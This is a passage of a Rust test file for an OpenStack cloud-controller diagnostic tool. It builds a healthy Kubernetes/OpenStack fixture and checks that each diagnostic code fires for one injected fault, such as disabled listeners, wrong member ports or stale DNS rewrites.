//! Each code is found where its fault is, with no other error beside it; a healthy world shows none.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use std::collections::{BTreeMap, BTreeSet};

use openstack_ccm_doctor::code::{Code, Severity, TABLE};
use openstack_ccm_doctor::facts::{
    BackendFacts, Change, ChangedField, CloudFacts, CloudObject, ClusterFacts, Container, ContainerPort,
    ControllerFact, Dial, DialResult, DnsText, Door, DoorRule, EventFact, Forecast, ForeignPolicy,
    GroupSource, Host, NodeFact, Objects, PathFact, ServedBy, ServedName, ServiceFacts, WantedStatus,
    Workload,
};
use openstack_ccm_doctor::finding::Check;
use openstack_ccm_doctor::hop::Origin;
use openstack_ccm_doctor::hops;
use openstack_ccm_doctor::leftovers::{self, LeftoverFacts};
use openstack_ccm_doctor::output::{Outcome, json as json_output, mermaid, table};
use openstack_ccm_doctor::question::HopReport;
use openstack_ccm_doctor::report::{Counts, End, Report, Verdict};
use openstack_ccm_doctor::rules;
use serde_json::{Value, from_value, json};

/// A cluster with one Service that uses PROXY protocol, and everything about it.
struct World {
    cluster: ClusterFacts,
    facts: ServiceFacts,
    leftovers: LeftoverFacts,
    /// Dumps of rules, and what was walked in them.
    rules: Vec<(String, &'static str)>,
}

fn service(name: &str, ip: &str, mode: &str) -> Value {
    json!({
        "metadata": {"namespace": "shop", "name": name},
        "spec": {"type": "LoadBalancer", "clusterIP": "10.96.0.10", "selector": {"app": "nginx"},
            "ports": [{"name": "https", "port": 443, "targetPort": "https", "nodePort": 30443, "protocol": "TCP"}]},
        "status": {"loadBalancer": {"ingress": [{"ip": ip, "ipMode": mode}]}},
    })
}

fn child(kind: &'static str, id: &str, name: &str) -> CloudObject {
    CloudObject {
        kind,
        id: id.into(),
        name: name.into(),
        provisioning: "ACTIVE".into(),
        operating: "ONLINE".into(),
        ..CloudObject::default()
    }
}

fn healthy() -> World {
    let web = service("web", "203.0.113.10", "Proxy");
    let nodes = [("node1", "10.0.0.11"), ("node2", "10.0.0.12")].map(|(name, address)| NodeFact {
        name: name.into(),
        addresses: vec![address.parse().unwrap()],
        ready: Some(true),
        dead: false,
        honours: true,
        source: "canary".into(),
        measured: true,
        cause: "it leaves the address alone".into(),
    });
    let cluster = ClusterFacts {
        time: "2026-11-22T12:00:00Z".parse().unwrap(),
        keeps_mode: Ok(true),
        nodes: Ok(nodes.into()),
        services: Ok(vec![from_value(web.clone()).unwrap()]),
        policies: Ok(Vec::new()),
        dns: Ok(vec![DnsText {
            config_map: "kube-system/coredns".into(),
            key: "Corefile".into(),
            text: ".:53 {\n    errors\n    kubernetes cluster.local\n    forward . /etc/resolv.conf\n}\n"
                .into(),
        }]),
        names: Ok(vec![ServedName {
            host: "shop.example.org".into(),
            owner: "Ingress shop/web".into(),
            at: vec!["203.0.113.10".into()],
        }]),
        controller: Ok(ControllerFact {
            lease: "kube-system/cloud-controller-manager".into(),
            holder: Some("cp-1_a".into()),
            works: true,
            since: Some("2026-11-22T10:00:00Z".parse().unwrap()),
            text: "cp-1_a since 2026-11-22T10:00:00Z, renewed 2 s ago".into(),
            program: Some("openstack-ccm 0.3.0".into()),
            manager: Some("openstack-ccm".into()),
            cluster: Some("c1".into()),
            given_cluster: "c1".into(),
        }),
        foreign_policies: Ok(Vec::new()),
        client: None,
        workloads: Ok(Vec::new()),
    };
    let listener = CloudObject {
        protocol: Some("TCP".into()),
        port: Some(443),
        pool: Some("p".into()),
        ..child("listener", "l", "listener_0")
    };
    let pool = CloudObject { protocol: Some("PROXYV2".into()), ..child("pool", "p", "pool_0") };
    let member = |id: &str, name: &str| CloudObject { pool: Some("p".into()), ..child("member", id, name) };
    let door = |address: &str| Door {
        address: address.parse().unwrap(),
        port: 30443,
        protocol: "tcp".into(),
        pool: "p".into(),
        group: Some("nodes".into()),
        guarded: true,
        hidden: false,
        rules: vec![DoorRule {
            protocol: Some("tcp".into()),
            ports: Some((30_000, 32_767)),
            from: Some("10.0.0.0/24".parse().unwrap()),
            ipv6: false,
            from_group: None,
        }],
        from: Some("10.0.0.0/24".parse().unwrap()),
    };
    let cloud = CloudFacts {
        load_balancer: Some(child("load balancer", "lb", "kube_service_c1_shop_web")),
        provider: "amphora".into(),
        children: Objects {
            objects: vec![listener, pool, member("m1", "10.0.0.11:30443"), member("m2", "10.0.0.12:30443")],
            trouble: None,
        },
        forecast: Forecast::Settled,
        changes: Vec::new(),
        warnings: Vec::new(),
        doors: Some(Ok(["10.0.0.11", "10.0.0.12"].map(door).into())),
        addresses: Some(Ok(vec!["10.0.0.100".parse().unwrap(), "203.0.113.10".parse().unwrap()])),
        floating: vec!["203.0.113.10".parse().unwrap()],
        translated: None,
        astray: BTreeMap::new(),
        would_publish: None,
        subnet: Some("10.0.0.0/24".into()),
    };
    let slice = json!({
        "metadata": {}, "addressType": "IPv4", "ports": [{"name": "https", "port": 8443, "protocol": "TCP"}],
        "endpoints": [{"addresses": ["10.244.1.7"], "conditions": {"ready": true}}],
    });
    let backend = BackendFacts {
        pod: "web-1".into(),
        containers: vec![Container {
            image: "registry.example.org/ingress-nginx/controller:v1.15.1".into(),
            words: vec!["/nginx-ingress-controller".into(), "--configmap=shop/nginx".into()],
            ports: vec![ContainerPort { name: "https".into(), number: 8443, protocol: "TCP".into() }],
        }],
        config_maps: BTreeMap::from([("shop/nginx".to_owned(), Ok(config("true")))]),
        ..BackendFacts::default()
    };
    let facts = ServiceFacts {
        path: Ok(PathFact {
            needs: Some("the load balancer adds the PROXY protocol header".into()),
            header: true,
            pools: BTreeMap::from([(443, "PROXYV2".to_owned())]),
            source: "loadbalancer.openstack.org/proxy-protocol: v2".into(),
            external: true,
        }),
        wanted: Ok(WantedStatus {
            entries: from_value(web["status"]["loadBalancer"]["ingress"].clone()).unwrap(),
            reason: "the load balancer adds the PROXY protocol header".into(),
            warnings: Vec::new(),
            published: true,
        }),
        slices: Ok(vec![from_value(slice).unwrap()]),
        cloud: Ok(cloud),
        backend: Ok(backend),
        dials: None,
        events: Ok(Vec::new()),
        served_by: ServedBy::Ours,
        hosts: BTreeMap::new(),
        cloud_asked: true,
        service: from_value(web).unwrap(),
    };
    let leftovers = LeftoverFacts { namespaces: Ok(vec!["shop".into()]), service_proxies: Ok(Vec::new()) };
    World { cluster, facts, leftovers, rules: Vec::new() }
}

fn config(value: &str) -> BTreeMap<String, String> {
    BTreeMap::from([("use-proxy-protocol".to_owned(), value.to_owned())])
}

impl World {
    /// The hostname resolves to the load balancer.
    fn resolve(&mut self, name: &str) {
        let addresses = vec!["203.0.113.10".parse().unwrap()];
        self.facts.hosts.insert(name.to_owned(), Host::Is(addresses));
    }

    fn member(&mut self, removed: &str, added: &str) {
        let list = |text: &str| if text.is_empty() { Vec::new() } else { vec![text.to_owned()] };
        let field = ChangedField { removed: list(removed), added: list(added), ..ChangedField::default() };
        let change =
            Change { mark: "~".into(), kind: "members".into(), fields: vec![field], ..Change::default() };
        self.cloud().changes.push(Change { parent: Some("p".into()), ..change });
    }

    fn policy(&mut self, policy: Value) {
        self.cluster.policies.as_mut().unwrap().push(from_value(policy).unwrap());
    }

    fn publish(&mut self, entry: &Value) {
        let status = json!({"loadBalancer": {"ingress": [entry]}});
        self.facts.service.status = Some(from_value(status).unwrap());
        if let Ok(wanted) = &mut self.facts.wanted {
            wanted.published = false;
        }
    }

    fn cloud(&mut self) -> &mut CloudFacts {
        self.facts.cloud.as_mut().unwrap()
    }

    fn child(&mut self, id: &str) -> &mut CloudObject {
        self.cloud().children.objects.iter_mut().find(|one| one.id == id).unwrap()
    }

    fn doors(&mut self) -> &mut Vec<Door> {
        let Some(Ok(doors)) = &mut self.cloud().doors else { panic!("no doors") };
        doors
    }

    fn warn(&mut self, reason: &str) {
        self.cloud().warnings.push((reason.to_owned(), "the message".to_owned()));
    }

    fn change(&mut self, mark: &str, kind: &str, field: &str) {
        let text = format!("{field} a -> b");
        let fields = vec![ChangedField { name: field.into(), text, ..ChangedField::default() }];
        let (mark, kind) = (mark.into(), kind.into());
        self.cloud().changes.push(Change { mark, kind, name: "443/TCP".into(), parent: None, fields });
    }

    fn spec(&mut self, patch: &Value) {
        let mut spec = serde_json::to_value(&self.facts.service.spec).unwrap();
        for (key, value) in patch.as_object().unwrap() {
            spec[key] = value.clone();
        }
        self.facts.service.spec = from_value(spec).unwrap();
    }

    fn dial(&mut self, result: DialResult) {
        self.facts.dials = Some(vec![Dial {
            node: "node1".into(),
            to: "203.0.113.10:443".into(),
            result,
            milliseconds: 4,
            source: "a pod address".into(),
        }]);
    }

    fn delete(&mut self, time: &str) {
        self.facts.service.metadata.deletion_timestamp = Some(from_value(json!(time)).unwrap());
    }

    fn fail(&mut self) {
        let message =
            "Error syncing load balancer: create load balancer kube_service_c1_a_b tags=[x]: 403 no quota";
        self.event("SyncLoadBalancerFailed", message);
    }

    fn event(&mut self, reason: &str, message: &str) {
        self.facts.events.as_mut().unwrap().push(EventFact {
            warning: reason.ends_with("Failed"),
            reason: reason.into(),
            message: message.into(),
            time: Some("2026-11-22T11:50:00Z".parse().unwrap()),
            source: "openstack-ccm".into(),
        });
    }

    fn corefile(&mut self, line: &str) {
        let dns = self.cluster.dns.as_mut().unwrap();
        dns[0].text = dns[0].text.replace("    errors\n", &format!("    errors\n    {line}\n"));
    }

    fn workload(&mut self, workload: Workload) {
        self.cluster.workloads.as_mut().unwrap().push(workload);
    }

    fn configured(&mut self, value: &str) {
        let maps = &mut self.facts.backend.as_mut().unwrap().config_maps;
        maps.insert("shop/nginx".to_owned(), Ok(config(value)));
    }

    fn without_header(&mut self) {
        let path = self.facts.path.as_mut().unwrap();
        *path = PathFact { pools: BTreeMap::from([(443, "TCP".to_owned())]), ..PathFact::default() };
        self.child("p").protocol = Some("TCP".into());
        self.configured("false");
    }

    fn report(&self) -> Report {
        hops::walk(&self.cluster, &self.facts)
    }

    fn outcome(&self) -> Outcome {
        let leftovers = Some(leftovers::judge(&self.cluster, &self.leftovers));
        Outcome { reports: vec![self.report()], leftovers }
    }

    fn codes(&self) -> Vec<Code> {
        let outcome = self.outcome();
        let of_checks = outcome.checks().filter_map(|check| match check {
            Check::Found(finding) => Some(finding.code),
            _ => None,
        });
        let walked = self.rules.iter().flat_map(|(dump, target)| {
            let target = target.parse().unwrap();
            let walk = rules::walk(dump, &target, None).unwrap();
            let around = rules::short_circuit(&walk, &target);
            walk.findings.into_iter().chain(around).map(|finding| finding.code)
        });
        of_checks.chain(walked).collect()
    }
}

fn with(change: impl FnOnce(&mut World)) -> World {
    let mut world = healthy();
    change(&mut world);
    world
}

fn container(image: &str, words: &[&str]) -> Vec<Container> {
    let words = words.iter().map(|word| (*word).to_owned()).collect();
    vec![Container { image: image.into(), words, ports: Vec::new() }]
}

/// The smallest world in which a code is found.
fn world_with(code: Code) -> World {
    with(|world| {
        match code {
        Code::D001 => {
            world.cluster.controller.as_mut().unwrap().works = false;
            world.change("~", "listener", "timeout_client_data");
        }
        Code::D002 => world.cluster.controller.as_mut().unwrap().works = false,
        Code::D003 => world.cluster.controller.as_mut().unwrap().given_cluster = "kubernetes".into(),
        Code::D004 => world.delete("2026-11-22T11:59:00Z"),
        Code::D005 => {
            world.cloud().changes.clear();
            world.cloud().forecast = Forecast::Waits("a quota".into());
            world.fail();
        }
        Code::D006 => world.delete("2026-11-22T11:00:00Z"),
        Code::D101 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "cert-manager".into(),
            name: "cert-manager".into(),
            host_aliases: vec![("10.0.0.77".into(), vec!["shop.example.org".into()])],
            ..Workload::default()
        }),
        Code::D102 => {
            world.publish(&json!({"hostname": "shop.example.org"}));
            world.resolve("shop.example.org");
            world.dial(DialResult::NoName("no such name".into()));
        }
        Code::D104 => world.corefile("rewrite name shop.example.org gone.shop.svc.cluster.local"),
        Code::D105 => {
            world.publish(&json!({"hostname": "shop.example.org"}));
            let elsewhere = Host::Is(vec!["203.0.113.99".parse().unwrap()]);
            world.facts.hosts.insert("shop.example.org".into(), elsewhere);
        }
        Code::D103 => world.publish(&json!({"hostname": "my-balancer"})),
        Code::D201 => world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"})),
        Code::D202 => {
            world.publish(&json!({"ip": "203.0.113.10"}));
            world.cluster.keeps_mode = Ok(false);
        }
        Code::D203 => world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP", "hostname": "a.example.org"})),
        Code::D204 => {
            let fields = json!([{"manager": "cloud-controller-manager", "operation": "Update", "subresource": "status",
                "time": "2026-11-22T11:00:00Z",
                "fieldsV1": {"f:status": {"f:loadBalancer": {"f:ingress": {}}}}}]);
            world.facts.service.metadata.managed_fields = from_value(fields).unwrap();
        }
        Code::D205 => {
            let other = from_value(service("other", "203.0.113.10", "VIP")).unwrap();
            world.cluster.services.as_mut().unwrap().push(other);
        }
        Code::D206 => world.facts.service.status = None,
        Code::D207 => world.publish(&json!({"ip": "203.0.113.99", "ipMode": "Proxy"})),
        Code::D301 => {
            let node = &mut world.cluster.nodes.as_mut().unwrap()[1];
            (node.honours, node.measured, node.source) = (false, false, "version".into());
            node.cause = "kubelet v1.29.15 is older than 1.30".into();
        }
        Code::D302 => world.rules.push((include_str!("dumps/iptables.txt").to_owned(), "203.0.113.10:443")),
        Code::D303 => world
            .rules
            .push((include_str!("dumps/iptables-flushed.txt").to_owned(), "203.0.113.10:443")),
        Code::D304 => {
            let join = |dump: &str| {
                dump.trim().trim_start_matches("{\"nftables\": [").trim_end_matches("]}").to_owned()
            };
            let both = [include_str!("dumps/iptables.nft.json"), include_str!("dumps/nftables.nft.json")].map(join);
            world.rules.push((format!("{{\"nftables\": [{}]}}", both.join(",")), "203.0.113.20:443"));
        }
        Code::D305 => {
            world.without_header();
            world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"}));
            world.spec(&json!({"loadBalancerSourceRanges": ["198.51.100.0/24"]}));
        }
        Code::D401 => {
            let policy = json!({"metadata": {"namespace": "cert-manager", "name": "p"},
                "spec": {"podSelector": {}, "policyTypes": ["Egress"], "egress": []}});
            world.cluster.policies = Ok(vec![from_value(policy).unwrap()]);
        }
        Code::D402 => {
            world.child("l").allowed = vec!["198.51.100.0/24".into()];
            world.cloud().translated = Some(Ok(vec!["203.0.113.2".parse().unwrap()]));
        }
        Code::D403 => world.dial(DialResult::TimedOut),
        Code::D404 => {
            world.child("l").allowed = vec!["198.51.100.0/24".into()];
            world.cluster.client = Some("192.0.2.7".parse().unwrap());
        }
        Code::D501 => world.child("l").provisioning = "ERROR".into(),
        Code::D502 => {
            world.child("p").provisioning = "PENDING_UPDATE".into();
            let load_balancer = world.cloud().load_balancer.as_mut().unwrap();
            load_balancer.updated = Some("2026-11-22T11:30:00Z".parse().unwrap());
        }
        Code::D503 => {
            world.cloud().children.objects.retain(|one| one.kind != "listener");
            world.change("+", "listener", "protocol");
        }
        Code::D504 => world.warn("LoadBalancerSettingNotSupported"),
        Code::D505 => world.cloud().forecast = Forecast::Refused("timeout-client-data: soon is no number".into()),
        Code::D506 => world.cloud().load_balancer = None,
        Code::D507 => world.change("~", "listener", "timeout_client_data"),
        Code::D508 => world.warn("UnknownAnnotation"),
        Code::D509 => {
            let address = "203.0.113.10".parse().unwrap();
            world.cloud().addresses = Some(Ok(vec!["10.0.0.100".parse().unwrap()]));
            world.cloud().astray.insert(address, "it leads nowhere".into());
            world.change("~", "floating IP", "port_id");
        }
        Code::D510 => world.child("l").disabled = true,
        Code::D511 => world.change("~", "listener", "allowed_cidrs"),
        Code::D512 => world.cloud().forecast = Forecast::Keeps("timeout-client-data: soon is no number".into()),
        Code::D601 => {
            world.child("p").protocol = Some("TCP".into());
            world.change("-/+", "pool", "protocol");
            world.change("~", "listener", "default_pool");
            world.change("+", "members", "");
        }
        Code::D701 => world.member("", "10.0.0.13:30443"),
        Code::D702 => {
            for door in world.doors() {
                door.rules[0].ports = Some((22, 22));
            }
        }
        Code::D703 => {
            world.child("m1").operating = "ERROR".into();
            world.child("m2").operating = "OFFLINE".into();
        }
        Code::D704 => world.child("m1").operating = "ERROR".into(),
        Code::D705 => world.cluster.nodes.as_mut().unwrap()[1].ready = Some(false),
        Code::D801 => world.facts.slices = Ok(Vec::new()),
        Code::D802 => {
            world.spec(&json!({"externalTrafficPolicy": "Local"}));
            world.warn("LoadBalancerLocalWithoutMonitor");
        }
        Code::D803 => world.spec(&json!({"allocateLoadBalancerNodePorts": false, "ports": [{"name": "https", "port": 443, "targetPort": "https"}]})),
        Code::D804 => {
            world.facts.slices.as_mut().unwrap()[0].ports.as_mut().unwrap()[0].name = Some("web".into());
        }
        Code::D805 => world.policy(json!({"metadata": {"namespace": "shop", "name": "p"},
            "spec": {"podSelector": {}, "policyTypes": ["Ingress"]}})),
        Code::D806 => {
            let label = "service.kubernetes.io/service-proxy-name".to_owned();
            world.facts.service.metadata.labels = Some([(label, "else".to_owned())].into());
        }
        Code::D901 => world.configured("false"),
        Code::D902 => {
            world.without_header();
            world.configured("true");
        }
        Code::D903 => {
            let backend = world.facts.backend.as_mut().unwrap();
            backend.containers =
                container("traefik:v3", &["traefik", "--entryPoints.web.proxyProtocol.trustedIPs=10.0.0.0/24"]);
        }
        Code::L101 => world.corefile(
            "rewrite name old.example.org hairpin-proxy.hairpin-proxy.svc.cluster.local # Added by hairpin-proxy",
        ),
        Code::L102 => world.leftovers.namespaces = Ok(vec!["ouroboros".into()]),
        Code::L103 => {
            let mut other = service("other", "203.0.113.99", "Proxy");
            other["status"]["loadBalancer"]["ingress"] = json!([{"hostname": "203-0-113-99.nip.io"}]);
            world.cluster.services.as_mut().unwrap().push(from_value(other).unwrap());
        }
        Code::L104 => world.corefile("rewrite name old.example.org nginx.other.svc.cluster.local"),
        Code::L105 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "shop".into(),
            name: "app".into(),
            host_aliases: vec![("10.96.0.10".into(), vec!["else.example.org".into()])],
            ..Workload::default()
        }),
        Code::L106 => world.workload(Workload {
            kind: "Deployment".into(),
            namespace: "cert-manager".into(),
            name: "cert-manager".into(),
            containers: container(
                "quay.example.org/jetstack/cert-manager-controller:v1.20.3",
                &["--acme-http01-solver-nameservers=9.9.9.9:53"],
            ),
            ..Workload::default()
        }),
        Code::L107 => {
            world.leftovers.service_proxies =
                Ok(vec![("kube-system/antrea-config".into(), "proxyLoadBalancerIPs: false\n".into())]);
        }
        Code::L108 => world.workload(Workload {
            kind: "CronJob".into(),
            namespace: "ops".into(),
            name: "touch".into(),
            containers: container("kubectl", &["sh", "-c", "kubectl annotate service web touched=$(date +%s)"]),
            ..Workload::default()
        }),
    }
    })
}

#[test]
fn a_healthy_world_shows_nothing_and_packets_arrive() {
    let world = healthy();
    let outcome = world.outcome();
    let odd: Vec<&Check> =
        outcome.checks().filter(|check| matches!(check, Check::Found(_) | Check::Unknown(_))).collect();
    assert!(odd.is_empty(), "{odd:#?}");
    for origin in Origin::ALL {
        assert_eq!(world.report().end(origin), End::Arrives { around: false, seen: false });
    }
}

#[test]
fn a_healthy_world_without_the_header_shows_nothing() {
    let mut world = with(World::without_header);
    world.publish(&json!({"ip": "203.0.113.10", "ipMode": "VIP"}));
    let codes = world.codes();
    assert!(codes.is_empty(), "{codes:?}");
    assert_eq!(world.report().end(Origin::Pod), End::Arrives { around: true, seen: false });
}

#[test]
fn each_code_is_found_and_no_other_error() {
    for entry in TABLE {
        let world = world_with(entry.code);
        let found: BTreeSet<Code> = world.codes().into_iter().collect();
        assert!(found.contains(&entry.code), "{}: {found:?}", entry.code);
        let others: Vec<&Code> = found
            .iter()
            .filter(|code| **code != entry.code && code.entry().severity == Severity::Error)
            .collect();
        assert!(others.is_empty(), "{}: also {others:?}", entry.code);
    }
}

/// What cannot be looked at is unknown, and the packet does not arrive for sure.
#[test]
fn what_could_not_be_looked_at_is_never_green() {
    let no = || "forbidden".to_owned();
    type Darken = fn(&mut World, String);
    let dark: [(&str, Darken); 9] = [
        ("nodes", |world, cause| world.cluster.nodes = Err(cause)),
        ("services", |world, cause| world.cluster.services = Err(cause)),
        ("policies", |world, cause| world.cluster.policies = Err(cause)),
        ("dns", |world, cause| world.cluster.dns = Err(cause)),
        ("names", |world, cause| world.cluster.names = Err(cause)),
        ("path", |world, cause| world.facts.path = Err(cause)),
        ("slices", |world, cause| world.facts.slices = Err(cause)),
        ("cloud", |world, cause| world.facts.cloud = Err(cause)),
        ("backend", |world, cause| world.facts.backend = Err(cause)),
    ];
    for (what, darken) in dark {
        let world = with(|world| darken(world, no()));
        let report = world.report();
        assert!(report.hops.iter().any(|hop| hop.verdict() == Verdict::Unknown), "{what}");
        assert!(matches!(report.end(Origin::Pod), End::Unknown(_)), "{what}: {}", report.sentence());
        assert!(Counts::of(report.hops.iter().flat_map(HopReport::checks)).unknown > 0, "{what}");
    }
}

/// A second port, which is well.
fn with_another_port(world: &mut World) {
    world.spec(&json!({"ports": [
        {"name": "https", "port": 443, "targetPort": "https", "nodePort": 30443, "protocol": "TCP"},
        {"name": "http", "port": 80, "targetPort": "http", "nodePort": 30080, "protocol": "TCP"},
    ]}));
    let listener = CloudObject {
        protocol: Some("TCP".into()),
        port: Some(80),
        pool: Some("q".into()),
        ..child("listener", "k", "listener_1")
    };
    let pool = CloudObject { protocol: Some("PROXYV2".into()), ..child("pool", "q", "pool_1") };
    let member = CloudObject { pool: Some("q".into()), ..child("member", "m3", "10.0.0.11:30080") };
    let mut door = world.doors()[0].clone();
    (door.port, door.pool) = (30080, "q".into());
    world.doors().push(door);
    world.cloud().children.objects.extend([listener, pool, member]);
    world.facts.path.as_mut().unwrap().pools.insert(80, "PROXYV2".to_owned());
    let slice = &mut world.facts.slices.as_mut().unwrap()[0];
    let port = json!({"name": "http", "port": 8080, "protocol": "TCP"});
    slice.ports.as_mut().unwrap().push(from_value(port).unwrap());
    let containers = &mut world.facts.backend.as_mut().unwrap().containers;
    containers[0].ports.push(ContainerPort { name: "http".into(), number: 8080, protocol: "TCP".into() });
}

/// Two ports, of which one is broken: connections to the other arrive.
#[test]
fn what_is_broken_for_one_port_ends_not_everything() {
    for code in [Code::D503, Code::D601, Code::D510, Code::D703, Code::D804] {
        let mut world = world_with(code);
        assert!(
            matches!(world.report().end(Origin::Outside), End::Ends(_, found, _) if found == code),
            "{code}"
        );
        with_another_port(&mut world);
        let report = world.report();
        assert!(matches!(report.end(Origin::Outside), End::MayEnd(_, found, _) if found == code), "{code}");
        let flows = report.conclusion(Origin::Outside).flows;
        let verdicts: Vec<&str> = flows.iter().map(|flow| flow.end.verdict()).collect();
        assert_eq!(verdicts, ["ends", "should-reach"], "{code}");
    }
}

/// Outages that the objects show, each with what becomes of packets from outside, and the hop.
#[test]
fn what_the_objects_show_is_never_green() {
    type Break = fn(&mut World);
    let breaks: [(&str, Break, &str, usize); 36] = [
        (
            "a name that no resolver outside can know",
            |world| world.publish(&json!({"hostname": "ingress.local"})),
            "may-end",
            1,
        ),
        (
            "the VIP in place of the floating IP, of which the controller does not get to know",
            |world| world.publish(&json!({"ip": "10.0.0.100", "ipMode": "Proxy"})),
            "ends",
            2,
        ),
        (
            "a name of the VIP in place of the floating IP",
            |world| {
                world.publish(&json!({"hostname": "web.example.org"}));
                let vip = "10.0.0.100".parse().unwrap();
                world.facts.hosts.insert("web.example.org".into(), Host::Is(vec![vip]));
            },
            "ends",
            1,
        ),
        (
            "members at another port, of a Service that goes",
            |world| {
                world.delete("2026-11-22T11:59:00Z");
                for id in ["m1", "m2"] {
                    world.child(id).port = Some(31999);
                }
            },
            "ends",
            7,
        ),
        (
            "members at another port, of a load balancer in ERROR for which the controller waits",
            |world| {
                world.cloud().forecast = Forecast::Waits("it is at work".into());
                world.cloud().load_balancer.as_mut().unwrap().provisioning = "ERROR".into();
                for id in ["m1", "m2"] {
                    world.child(id).port = Some(31999);
                }
            },
            "ends",
            7,
        ),
        (
            "a pool without the header, on a listener with another time-out",
            |world| {
                world.child("p").protocol = Some("TCP".into());
                world.change("~", "listener", "default_pool");
                let change = world.cloud().changes.last_mut().unwrap();
                change
                    .fields
                    .push(ChangedField { name: "timeout_client_data".into(), ..ChangedField::default() });
            },
            "ends",
            6,
        ),
        (
            "the VIP in place of the floating IP",
            |world| {
                world.publish(&json!({"ip": "10.0.0.100", "ipMode": "Proxy"}));
                let right = json!([{"ip": "203.0.113.10", "ipMode": "Proxy"}]);
                world.cloud().would_publish = Some(from_value(right).unwrap());
            },
            "ends",
            2,
        ),
        (
            "another service proxy than kube-proxy",
            |world| {
                let label = "service.kubernetes.io/service-proxy-name".to_owned();
                world.facts.service.metadata.labels = Some([(label, "else".to_owned())].into());
            },
            "ends",
            8,
        ),
        (
            "a listener for clients of the other family",
            |world| world.child("l").allowed = vec!["2001:db8::/32".into()],
            "ends",
            5,
        ),
        (
            "load balancer disabled",
            |world| world.cloud().load_balancer.as_mut().unwrap().disabled = true,
            "ends",
            5,
        ),
        ("listener disabled", |world| world.child("l").disabled = true, "ends", 5),
        ("pool disabled", |world| world.child("p").disabled = true, "ends", 5),
        (
            "load balancer offline",
            |world| world.cloud().load_balancer.as_mut().unwrap().operating = "OFFLINE".into(),
            "unknown",
            5,
        ),
        ("listener leads nowhere", |world| world.child("l").pool = None, "ends", 5),
        ("listener of another protocol", |world| world.child("l").protocol = Some("UDP".into()), "ends", 5),
        (
            "floating IP detached",
            |world| {
                let address = "203.0.113.10".parse().unwrap();
                world.cloud().addresses = Some(Ok(Vec::new()));
                world.cloud().astray.insert(address, "it leads nowhere".into());
            },
            "ends",
            5,
        ),
        (
            "all members disabled",
            |world| {
                world.child("m1").disabled = true;
                world.child("m2").disabled = true;
            },
            "ends",
            7,
        ),
        (
            "weight 0 everywhere",
            |world| {
                world.child("m1").weight = Some(0);
                world.child("m2").weight = Some(0);
            },
            "ends",
            7,
        ),
        (
            "members with the port of yesterday",
            |world| {
                world.member("10.0.0.11:30443", "10.0.0.11:31443");
                world.member("10.0.0.12:30443", "10.0.0.12:31443");
            },
            "ends",
            7,
        ),
        ("a member is gone", |world| world.member("", "10.0.0.13:30443"), "may-end", 7),
        ("no members", |world| world.cloud().children.objects.retain(|one| one.kind != "member"), "ends", 7),
        (
            "node not ready",
            |world| world.cluster.nodes.as_mut().unwrap()[0].ready = Some(false),
            "may-end",
            7,
        ),
        (
            "security group of another protocol",
            |world| {
                for door in world.doors() {
                    door.rules[0].protocol = Some("udp".into());
                }
            },
            "ends",
            7,
        ),
        (
            "security group of another family",
            |world| {
                for door in world.doors() {
                    door.rules[0].ipv6 = true;
                }
            },
            "ends",
            7,
        ),
        (
            "security group for its own members",
            |world| {
                for door in world.doors() {
                    door.rules[0] = DoorRule {
                        protocol: None,
                        ports: None,
                        from: None,
                        ipv6: false,
                        from_group: Some(GroupSource::Lacks),
                    };
                }
            },
            "ends",
            7,
        ),
        ("one node closed", |world| world.doors()[0].rules.clear(), "may-end", 7),
        (
            "named port that no slice has",
            |world| {
                world.facts.slices.as_mut().unwrap()[0].ports = Some(Vec::new());
            },
            "ends",
            8,
        ),
        (
            "target port of another protocol",
            |world| {
                world.facts.slices.as_mut().unwrap()[0].ports.as_mut().unwrap()[0].protocol =
                    Some("UDP".into());
            },
            "ends",
            8,
        ),
        (
            "endpoints of the other family",
            |world| {
                world.facts.slices.as_mut().unwrap()[0].address_type = "IPv6".into();
            },
            "ends",
            8,
        ),
        (
            "a number that no container declares",
            |world| {
                world.spec(&json!({"ports": [{"name": "https", "port": 443, "targetPort": 9999, "nodePort": 30443}]}));
            },
            "unknown",
            8,
        ),
        (
            "a policy that lets nobody in",
            |world| {
                world.policy(
                    json!({"metadata": {"namespace": "shop", "name": "p"}, "spec": {"podSelector": {}}}),
                );
            },
            "ends",
            8,
        ),
        (
            "a policy that nobody reads",
            |world| {
                let policy = ForeignPolicy {
                    kind: "CiliumNetworkPolicy".into(),
                    namespace: Some("shop".into()),
                    ingress: true,
                    ..ForeignPolicy::default()
                };
                world.cluster.foreign_policies = Ok(vec![policy]);
            },
            "unknown",
            8,
        ),
        (
            "the address of somebody else",
            |world| world.publish(&json!({"ip": "203.0.113.99", "ipMode": "Proxy"})),
            "ends",
            2,
        ),
        (
            "a hostname that leads elsewhere",
            |world| world.publish(&json!({"hostname": "203.0.113.99.nip.io"})),
            "unknown",
            1,
        ),
        (
            "a hostname that nobody asked for",
            |world| world.publish(&json!({"hostname": "lb.example.org"})),
            "unknown",
            1,
        ),
        (
            "a name that does not resolve",
            |world| {
                world.publish(&json!({"hostname": "lb.example.org"}));
                world.facts.hosts.insert("lb.example.org".into(), Host::IsNot("NXDOMAIN".into()));
            },
            "ends",
            1,
        ),
    ];
    for (name, change, verdict, hop) in breaks {
        let report = with(change).report();
        let end = report.end(Origin::Outside);
        assert_eq!(end.verdict(), verdict, "{name}: {end}");
        let found = match &end {
            End::Ends(hop, ..) | End::MayEnd(hop, ..) => hop.number(),
            End::Unknown(hops) => hops[0].number(),
            End::Arrives { .. } => 99,
        };
        assert_eq!(found, hop, "{name}: {end}");
        assert_ne!(
            Outcome { reports: vec![report], leftovers: None }.exit_code(Severity::Error),
            0,
            "{name}"
        );
    }
}

/// What does not concern the packets is no alarm.
#[test]
fn what_is_well_is_green() {
    type Change = fn(&mut World);
    let worlds: [(&str, Change); 11] = [
        ("the last endpoint ends and still serves", |world| {
            let ending = json!([{"addresses": ["10.244.1.7"],
                "conditions": {"ready": false, "serving": true, "terminating": true}}]);
            world.facts.slices.as_mut().unwrap()[0].endpoints = from_value(ending).unwrap();
        }),
        ("UDP, and a group that lets it in", |world| {
            world.spec(&json!({"ports": [{"name": "dns", "port": 443, "targetPort": "dns", "nodePort": 30443, "protocol": "UDP"}]}));
            world.child("l").protocol = Some("UDP".into());
            world.child("p").protocol = Some("UDP".into());
